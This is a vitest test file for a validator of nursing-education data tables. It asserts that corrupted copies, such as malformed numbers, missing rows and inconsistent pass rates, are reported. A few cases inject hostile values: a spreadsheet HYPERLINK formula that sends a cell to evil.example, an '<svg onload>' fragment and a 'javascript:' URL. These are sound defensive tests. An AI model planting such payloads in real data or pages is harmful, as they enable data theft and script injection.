import { describe, expect, it, vi } from 'vitest';
import {
  builtFailures,
  differenceFailures,
  packageFailures,
  unlistedFailures,
} from '../lib/data/check/built';
import { checkContent, tableFailures } from '../lib/data/check/check';
import { consistencyFailures } from '../lib/data/check/consistency';
import { contentTable, readContentTable, readCorpus } from '../lib/data/check/corpus';
import { describeFailure } from '../lib/data/check/failure';
import { type ContentFiles, contentText } from '../lib/data/content';
import { editions } from '../lib/data/editions';
import { type TableName, tables } from '../lib/data/registry';
import { chargeYears } from '../lib/data/year-words';
import { loadContent } from './data-files';

vi.setConfig({ testTimeout: 60_000 });

const files = loadContent();
const corpus = readCorpus(files);

/** A piece of a table's text that is there once, and what stands in its place in the broken copy. */
type Edit = readonly [found: string | RegExp, replacement: string];

function brokenText(name: TableName, [found, replacement]: Edit): string {
  const text = contentText(files, tables[name].file);
  const broken = text.replace(found, replacement);
  if (broken === text) throw new Error(`${name} has no ${found}`);
  return broken;
}

/** What is found wrong when one table is replaced by a broken copy. */
function failuresWith(name: TableName, edit: Edit): string[] {
  const content = readContentTable(contentTable(corpus, name), brokenText(name, edit));
  const broken = new Map([...corpus, [name, content]]);
  return [...tableFailures(content, broken), ...consistencyFailures(broken, name)].map(describeFailure);
}

function filesWith(name: TableName, edit: Edit): ContentFiles {
  return new Map([...files, [tables[name].file, brokenText(name, edit)]]);
}

describe('data:check on our tables', () => {
  const { tables: checked, failures } = checkContent(files);

  it('finds nothing wrong', () => {
    expect(failures.map(describeFailure)).toEqual([]);
  });

  it('checks every table of the registry', () => {
    expect(checked.map(({ name }) => name)).toEqual(Object.keys(tables));
    expect(checked.find(({ name }) => name === 'wages')).toEqual({
      name: 'wages',
      rows: 504,
      checks: ['schema', 'text', 'key', 'areas', 'state codes', 'order', 'provenance', 'checksum'],
    });
  });
});

describe('data:check on a broken copy names the table, the record, the column and the reason', () => {
  const cases: readonly { what: string; name: TableName; edit: Edit; failure: string }[] = [
    {
      what: 'a number in words',
      name: 'rpp',
      edit: [/(?<row>alabama,\d{4},)[\d.]+/, '$<row>89.9.7'],
      failure: 'rpp, record 2, rpp_all_items: expected a number ("89.9.7")',
    },
    {
      what: 'a name that a spreadsheet would run',
      name: 'institutions',
      edit: [/^(?<row>100663,\d*,)[^,]+,/m, '$<row>"=HYPERLINK(""http://evil.example/?""&A1,""School"")",'],
      failure:
        'institutions, record 1, name: "=HYPERLINK("http://evil.example/?"&A1,"School")": a spreadsheet',
    },
    {
      what: 'markup in a place',
      name: 'zip_codes',
      edit: [/(?<=\n)(?<row>(?:[^,\n]*,){2})/, '<svg onload>$<row>'],
      failure: 'zip_codes, record 1, zip: "<svg onload>',
    },
    {
      what: 'a website that is a script',
      name: 'institutions',
      edit: [/https:\/\/www\.uab\.edu\/?/, 'javascript:alert(1)//'],
      failure: 'institutions, record 1, website: "javascript:alert(1)//": is no web address',
    },
    {
      what: 'a number out of its range',
      name: 'institutions',
      edit: [/(?<row>,0\.\d+,)\d\d,(?=\d{5},)/, '$<row>164,'],
      failure: 'institutions, record 1, graduation_rate_150pct: expected 0 to 100 ("164")',
    },
    {
      what: 'a word that is not in the list',
      name: 'accreditation',
      edit: [',ACEN,Accredited,', ',ACEN,Acredited,'],
      failure: 'accreditation, record 1, status: Invalid option: expected one of "Accredited"|',
    },
    {
      what: 'a missing value',
      name: 'boards',
      edit: [/,no\n/, ',\n'],
      failure: 'boards, record 1, read_directly: Invalid option',
    },
    {
      what: 'a cohort that is too small',
      name: 'pass_rates',
      edit: [',full-year,41,41,100,', ',full-year,9,9,100,'],
      failure: 'pass_rates, record 1, candidates: expected at least 10 ("9")',
    },
    {
      what: 'a column that is gone',
      name: 'rpp',
      edit: ['rpp_all_items', 'rpp'],
      failure: 'rpp, rpp_all_items: is missing',
    },
    {
      what: 'an undeclared column',
      name: 'rpp',
      edit: ['rpp_all_items', 'rpp'],
      failure: 'rpp, rpp: is not declared',
    },
    {
      what: 'a record that is too short',
      name: 'rpp',
      edit: [/alabama,\d{4},/, 'alabama,'],
      failure: 'rpp: Invalid Record Length',
    },
    {
      what: 'a row twice',
      name: 'rpp',
      edit: [/alaska,(\d{4}),/, 'alabama,$1,'],
      failure: `rpp, record 3, state_slug, year: has the same key as record 2: ["alabama","${editions.rpp.edition}"]`,
    },
    {
      what: 'a state that is missing',
      name: 'boards',
      edit: [/wyoming,WY.*\n/, ''],
      failure: 'boards, state_slug: has no row for wyoming',
    },
    {
      what: 'a state that is missing for one occupation',
      name: 'wages',
      edit: [/ohio,OH,29-1171.*\n/, ''],
      failure: 'wages, state_slug: has no row for ohio (29-1171)',
    },
    {
      what: 'an institution that is not known',
      name: 'nursing_program_tuition',
      edit: [/^103893,/m, '999999,'],
      failure: 'nursing_program_tuition, record 1, unitid: institutions has no row ["999999"]',
    },
    {
      what: 'a row that does not say where it comes from',
      name: 'rpp',
      edit: ['https://apps.bea.gov/regional/zip/SARPP.zip', ''],
      failure: 'rpp, record 1, source_url: the row does not say where it comes from',
    },
    {
      what: 'a constant without a basis',
      name: 'readiness-bands',
      edit: [',2026-11,judged', ',2026-11,'],
      failure: 'readiness-bands, record 1, kind: the row does not say where it comes from',
    },
    {
      what: 'a postal code of another state',
      name: 'boards',
      edit: ['ohio,OH', 'ohio,OK'],
      failure: 'boards, record 36, state_code: OK is not ohio',
    },
    {
      what: 'percentiles out of order',
      name: 'wages',
      edit: [/^(?<row>us,US,00-0000,.+?,\d+\.\d,\d+,)\d+,/m, '$<row>99999,'],
      failure: 'is below p25_annual (99999)',
    },
    {
      what: 'a rate that no number of passes makes',
      name: 'pass_rates',
      edit: [',15,14,93.3,', ',15,,94.3,'],
      failure: 'pass_rates, record 2, pass_rate_percent: 94.3 is no whole number of 15 candidates',
    },
    {
      what: 'a rate that its own passes do not make',
      name: 'pass_rates',
      edit: [',15,14,93.3,', ',15,13,93.3,'],
      failure: 'pass_rates, record 2, pass_rate_percent: 93.3 is not 13 of 15 candidates',
    },
    {
      what: 'more passes than candidates',
      name: 'pass_rates',
      edit: [',15,14,93.3,', ',15,16,93.3,'],
      failure: 'pass_rates, record 2, passed: 16 of 15 candidates cannot have passed',
    },
    {
      what: 'neither passes nor a rate',
      name: 'pass_rates',
      edit: [',15,14,93.3,', ',15,,,'],
      failure: 'pass_rates, record 2, passed and pass_rate_percent: one of them is needed',
    },
    {
      what: 'a total from which a small cohort could be worked out',
      name: 'nclex_national',
      edit: ['Jul 2003-Jun 2004,full-year,1681,', 'Jul 2003-Jun 2004,full-year,1685,'],
      failure: 'nclex_national, record 43, candidates: less its programs leaves a cohort under 10',
    },
    {
      what: 'a total of awards that is not the sum of its detail',
      name: 'nursing_awards',
      edit: [/,\d+(?<rest>,\d+,direct)/, ',99999$<rest>'],
      failure: 'nursing_awards, record 1, completions_previous_year: 99999 is not the sum of the detail',
    },
    {
      what: 'a program under the unit of another institution',
      name: 'program_outcomes',
      edit: [/^105367,(.*),false,/m, '105367,$1,true,'],
      failure: 'in_institutions_csv: true, but institutions does not have 105367',
    },
  ];

  it.each<[string, TableName, Edit, string]>([
    [
      'a new edition in the rows with the old one in the registry',
      'wages',
      [editions.wages.edition, 'May 1999'],
      `wages, record 1, edition: May 1999 is not the edition of the table (${editions.wages.edition})`,
    ],
    [
      'rows of another release',
      'net_price_by_income',
      [`,${editions.net_price_by_income.edition},`, ',1999-06-10,'],
      `net_price_by_income, record 1, release: 1999-06-10 is not the edition of the table (${editions.net_price_by_income.edition})`,
    ],
    [
      'a price of another year',
      'price_by_state',
      [`${chargeYears.charges}\n`, '1998-99\n'],
      `price_by_state, record 1, year: 1998-99 is not the edition of the table (${chargeYears.charges})`,
    ],
    [
      'a state without a multiplier of an advanced degree',
      'credential_multipliers_by_state',
      [/ohio,OH,DNP.*\n/, ''],
      'credential_multipliers_by_state, state_slug: has no row for ohio (DNP)',
    ],
    [
      'a state without a price that it had',
      'price_by_state',
      [/ohio,LPN,all.*\n/, ''],
      'price_by_state, state_slug: has no row for ohio (LPN, all)',
    ],
    [
      'a constant that a degree must have',
      'programs',
      [/tuition_years,DNP.*\n/, ''],
      'programs, parameter, subject: has no row for tuition_years, DNP',
    ],
    [
      'an institution without a wage area',
      'institution_areas',
      [/^100663,.*\n/m, ''],
      'institution_areas, unitid: has no row for 100663',
    ],
    [
      'a BSN of which nothing says whom it is for',
      'first_degree_bsn',
      [/^100663,.*\n/m, ''],
      'first_degree_bsn, unitid: has no row for 100663',
    ],
    [
      'a degree without a rate of interest',
      'loan-parameters',
      [/rate_percent,RN_TO_MSN;MSN;/, 'rate_percent,RN_TO_MSN;'],
      'loan-parameters, parameter, applies_to: 0 rows of rate_percent for MSN',
    ],
  ])('%s', (_, name, edit, failure) => {
    expect(failuresWith(name, edit)).toContain(failure);
  });

  it.each(cases)('$what', ({ name, edit, failure }) => {
    expect(failuresWith(name, edit).join('\n')).toContain(failure);
  });
});

describe('data:check on what data:build makes', () => {
  it('names the table whose checksum, and the package whose version, is not that of the files', () => {
    const failures = packageFailures(filesWith('rpp', ['89.970', '89.971'])).map(describeFailure);
    expect(failures).toEqual([
      expect.stringMatching(/^rpp, hash: data\/datapackage\.json says sha256:\w+, the file is sha256:\w+$/),
      expect.stringMatching(/^data\/datapackage\.json, version: .* is not the version of the files/),
      expect.stringMatching(/^parameters\/datapackage\.json, version: /),
    ]);
  });

  it('names the table whose size is not the stated one', () => {
    const failures = packageFailures(filesWith('rpp', ['89.970', '89.97'])).map(describeFailure);
    expect(failures).toContainEqual(
      expect.stringMatching(/^rpp, bytes: data\/datapackage\.json says \d+, the file has/),
    );
  });

  it('names the first record that differs from its derivation', () => {
    const compare = (held: string, built: string) =>
      differenceFailures(new Map([['data/prices.csv', held]]), new Map([['data/prices.csv', built]]))
        .map(describeFailure)
        .join();
    expect(compare('a\n1\n2\n', 'a\n1\n2\n')).toBe('');
    expect(compare('a\n1\n3\n', 'a\n1\n2\n')).toBe(
      'prices, record 2: differs from what npm run data:build makes',
    );
    expect(compare('a\n1\n', 'a\n1\n2\n')).toContain('record 2');
    expect(compare('a\n1\n2\n', 'a\n1\n')).toContain('record 2');
    expect(compare('b\n1\n', 'a\n1\n')).toBe('prices: differs from what npm run data:build makes');
  });

  it('says what cannot be made from a broken table', () => {
    const failures = builtFailures(filesWith('wages', ['131', 'x'])).map(describeFailure);
    expect(failures).toEqual([expect.stringContaining('data/wages.csv, record')]);
  });

  it('names a missing file, a missing resource and a table that is not listed', () => {
    const missing = new Map([...files].filter(([file]) => file !== 'data/rpp.csv'));
    const { failures: ofTable } = readContentTable(contentTable(corpus, 'rpp'), undefined);
    expect(ofTable.map(describeFailure)).toEqual(['rpp: content/data/rpp.csv is missing']);
    expect(packageFailures(missing).map(describeFailure)).toContain(
      'data/datapackage.json: content/data/rpp.csv is missing',
    );
    const nameless = contentText(files, 'data/datapackage.json').replace('"name": "rpp"', '"name": "other"');
    const failures = packageFailures(new Map([...files, ['data/datapackage.json', nameless]]));
    expect(failures.map(describeFailure)).toEqual(['rpp, name: data/datapackage.json has no such resource']);
    expect(unlistedFailures(new Map([...files, ['data/more.csv', 'a\n1\n']])).map(describeFailure)).toEqual([
      'data/more.csv: is not in lib/data/registry.ts',
    ]);
  });
});

describe('a table that does not say where it comes from', () => {
  const boards = contentTable(corpus, 'boards');
  const failuresOf = (more: object) => {
    const content = { ...boards, table: { ...boards.table, ...more } };
    return tableFailures(content, corpus).map(describeFailure);
  };

  it('is refused when neither its rows nor the table name a source', () => {
    expect(failuresOf({ sources: [] })).toEqual([
      'boards: neither its rows nor the table say where it comes from',
    ]);
  });

  it('is refused when a source has no address', () => {
    expect(failuresOf({ sources: [{ title: 'A source', url: '' }] })).toEqual([
      'boards: a source has no title or no address: A source',
    ]);
  });

  it('is refused when it is derived from, or points to, a table that does not exist', () => {
    expect(failuresOf({ derivedFrom: ['nothing'] })).toEqual([
      'boards: is derived from nothing, which is no table',
    ]);
    const foreignKeys = [{ columns: ['state_slug'], table: 'nothing', references: ['state_slug'] }];
    expect(failuresOf({ foreignKeys })).toEqual(['boards, state_slug: points to nothing, which is no table']);
  });
});
